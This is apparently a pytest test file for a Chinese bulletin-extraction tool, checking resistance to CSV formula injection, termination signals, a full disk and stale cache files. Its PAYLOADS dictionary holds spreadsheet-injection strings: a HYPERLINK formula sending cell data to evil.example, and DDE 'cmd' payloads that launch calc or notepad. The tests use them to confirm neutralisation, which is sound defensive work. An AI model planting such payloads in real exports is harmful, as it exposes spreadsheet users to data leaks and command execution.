"""Hostile content and hostile conditions (issue 12): formula cells, signals, a full disk,
a cache left by a killed run. Every input is built here, at test time."""

from __future__ import annotations

import os
import shutil
import signal
import subprocess
import sys
import time
from collections import Counter
from datetime import date
from pathlib import Path

import pytest
from test_batch_run import SAMPLES, read_csv
from test_writers_folder import leftovers, tables

from extract import parse_folder
from extract.batch import BatchResult
from extract.cache import ResultCache
from extract.cli import summary_line
from extract.pipeline import PARSER_VERSION
from extract.results import RunTables
from extract.writers.csv import FORMULA_STARTS
from extract.writers.folder import STAGING_PREFIX
from extract.writers.tables import read_tables

REPO = Path(__file__).resolve().parent.parent
AS_OF = date(2024, 12, 31)
ENV = {**os.environ, "PYTHONPATH": str(REPO)}

#: What an attacker puts where a title, a unit or a problem's title is read.
PAYLOADS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"点击查看原文")',
    "item1": "=cmd|' /C calc'!A0学习贯彻不深入。",
    "item2": "+1+cmd|' /C notepad'!A0决策部署打折扣。",
    "item3": "-2+3+cmd|' /C calc'!A0意识形态责任制落实不到位。",
    "item4": "@SUM(1+1)*cmd|' /C calc'!A0议事决策不规范。",
}


def injected_bulletin(folder: Path) -> Path:
    """Sample 001 with formulas as its first line and its first four problems' titles."""
    lines = (SAMPLES / "001_county_health_bureau.txt").read_text(encoding="utf-8").split("\n")
    lines[0] = PAYLOADS["title"] + lines[0]
    for n in range(1, 5):
        i = next(i for i, line in enumerate(lines) if line.startswith(f"{n}."))
        lines[i] = f"{n}." + PAYLOADS[f"item{n}"]
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "=cmd|' calc'!A0.txt"  # a source_path that begins like a formula too
    path.write_text("\n".join(lines), encoding="utf-8")
    return path


def test_no_csv_cell_begins_a_formula(tmp_path: Path) -> None:
    injected_bulletin(tmp_path / "in")
    out = tmp_path / "out"
    parse_folder(tmp_path / "in", out=out, as_of=AS_OF, workers=1, cache=False,
                 formats=("csv", "xlsx"))
    cells: Counter[str] = Counter()
    for name in ("documents", "sections", "items", "measures", "checks", "summary",
                 "incomplete", "themes"):
        for row in read_csv(out / f"{name}.csv"):
            for value in row.values():
                assert value[:1] not in FORMULA_STARTS, (name, value)
                cells[value] += 1
    # The payloads are there, each neutralised by one leading quote.
    assert cells["'" + "=cmd|' calc'!A0.txt"] >= 2  # documents and summary source_path
    for n in range(1, 5):
        assert any(v.startswith("'" + PAYLOADS[f"item{n}"][:8]) for v in cells), n
    # Numbers stay numbers.
    doc = read_csv(out / "documents.csv")[0]
    assert doc["items_declared"] == "3" and doc["completion_rate"] == "86.7"
    # Read back, the tables give the text as it was.
    items = read_tables(out)["items"]
    titles = set(items.frame["title"])
    assert any(t.startswith(PAYLOADS["item1"][:8]) for t in titles)
    # The workbook holds them as text, not formulas.
    from openpyxl import load_workbook

    sheet = load_workbook(out / "results.xlsx", read_only=True)["items"]
    texts = [c for row in sheet.iter_rows(values_only=True) for c in row if isinstance(c, str)]
    assert any(t.startswith("=cmd") for t in texts)


def _wait_for_staging(parent: Path, proc: subprocess.Popen[str], timeout: float = 60) -> None:
    deadline = time.monotonic() + timeout
    while not any(p.name.startswith(STAGING_PREFIX) for p in parent.iterdir()):
        assert proc.poll() is None, proc.communicate()
        assert time.monotonic() < deadline, "the run never started writing"
        time.sleep(0.02)


def _copies(folder: Path, n: int) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    samples = sorted(SAMPLES.glob("*.txt"))
    for i in range(n):
        text = samples[i % len(samples)].read_text(encoding="utf-8")
        (folder / f"{i:03d}.txt").write_text(f"{text}\n（第{i}份）\n", encoding="utf-8")
    return folder


@pytest.mark.parametrize(("sig", "code", "said"), [(signal.SIGINT, 130, "Ctrl-C"),
                                                  (signal.SIGTERM, 143, "SIGTERM")])
def test_a_signal_stops_the_run_and_keeps_the_previous_set(tmp_path: Path, sig: int, code: int,
                                                           said: str) -> None:
    inputs = _copies(tmp_path / "in", 120)
    out = tmp_path / "out"
    parse_folder(SAMPLES / "001_county_health_bureau.txt", out=out, as_of=AS_OF, workers=1)
    before = tables(out)
    proc = subprocess.Popen(
        [sys.executable, "-m", "extract", "extract", str(inputs), "--out", str(out), "--workers",
         "1", "--no-cache", "-q", "--as-of", "2024-12-31", "--format", "csv,xlsx,sqlite"],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=ENV,
        start_new_session=True,  # SIGINT as a terminal sends it: to the whole group
        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL))
    _wait_for_staging(tmp_path, proc)
    os.killpg(proc.pid, sig)
    stdout, stderr = proc.communicate(timeout=60)
    assert proc.returncode == code, stderr
    assert said in stderr and "原有的结果保持不变" in stderr and str(out.resolve()) in stderr
    assert "Traceback" not in stderr and "Exception ignored" not in stderr
    assert stdout == ""
    assert tables(out) == before
    assert leftovers(out) == []


@pytest.fixture
def small_disk(tmp_path: Path) -> Path:
    """A 3 MB tmpfs (needs the right to mount: root in the CI container)."""
    mount = tmp_path / "disk"
    mount.mkdir()
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=3m", "tmpfs", str(mount)],
                          capture_output=True, text=True)
    if done.returncode != 0:
        pytest.skip(f"cannot mount a small tmpfs here ({done.stderr.strip() or 'mount failed'})")
    yield mount
    subprocess.run(["umount", "-l", str(mount)], check=False)


def _used(path: Path) -> int:
    st = os.statvfs(path)
    return (st.f_blocks - st.f_bfree) * st.f_frsize


def test_a_full_disk_is_reported_cleaned_up_and_survivable(small_disk: Path,
                                                           tmp_path: Path) -> None:
    one = tmp_path / "one"
    one.mkdir()
    shutil.copy(SAMPLES / "001_county_health_bureau.txt", one)
    out = small_disk / "out"
    cmd = [sys.executable, "-m", "extract", "extract", "--out", str(out), "-q", "--workers", "2",
           "--as-of", "2024-12-31"]
    first = subprocess.run([*cmd[:4], str(one), *cmd[4:]], capture_output=True, text=True,
                           env=ENV, timeout=120)
    assert first.returncode == 0, first.stderr
    before, used = tables(out), _used(small_disk)
    big = subprocess.run([*cmd[:4], str(SAMPLES), *cmd[4:], "--format", "csv,xlsx,sqlite,jsonl"],
                         capture_output=True, text=True, env=ENV, timeout=300)
    assert big.returncode == 1, big.stderr
    assert "磁盘空间不足" in big.stderr and "清理磁盘空间" in big.stderr, big.stderr
    assert "Traceback" not in big.stderr and "内部错误" not in big.stderr
    assert tables(out) == before
    assert leftovers(out) == [] and [p.name for p in small_disk.iterdir()] == ["out"]
    assert _used(small_disk) <= used, sorted(str(p) for p in out.rglob("*"))  # cache entries too
    again = subprocess.run([*cmd[:4], str(one), *cmd[4:]], capture_output=True, text=True,
                           env=ENV, timeout=120)
    assert again.returncode == 0, again.stderr


def test_a_run_that_caches_nothing_warns_nothing(tmp_path: Path) -> None:
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "empty.txt").write_bytes(b"")
    proc = subprocess.run([sys.executable, "-m", "extract", "extract", str(tmp_path / "in"),
                           "--out", str(tmp_path / "out"), "--workers", "1"],
                          capture_output=True, text=True, env=ENV, timeout=120)
    assert proc.returncode == 0 and proc.stderr == ""


def test_temporary_cache_files_of_dead_processes_are_removed(tmp_path: Path) -> None:
    cache = ResultCache(tmp_path / ".cache", PARSER_VERSION)
    shard = cache.dir / "ab"
    shard.mkdir(parents=True)
    dead = _dead_pid()
    stale = shard / f".tmp-{dead}-0"
    live = shard / f".tmp-{os.getpid()}-0"
    old_unnamed = shard / ".tmp-k3j4h5"
    new_unnamed = shard / ".tmp-q9w8e7"
    for p in (stale, live, old_unnamed, new_unnamed):
        p.write_bytes(b"{")
    os.utime(old_unnamed, (time.time() - 3 * 86400,) * 2)
    assert cache.remove_stale_temps() == 2
    assert not stale.exists() and not old_unnamed.exists()
    assert live.exists() and new_unnamed.exists()


def _dead_pid() -> int:
    proc = subprocess.Popen(["true"])
    proc.wait()
    return proc.pid


def test_the_summary_line_does_not_count_duplicates_as_failures() -> None:
    result = BatchResult(RunTables(AS_OF), documents=6, bulletins=5, items=40, failed=5,
                         duplicates=1)
    line = summary_line(result)
    assert "失败 5 个文件" in line
    assert "另有 1 个文件与前面的文件内容相同，未重复解析" in line
    assert "重复 1 个" not in line
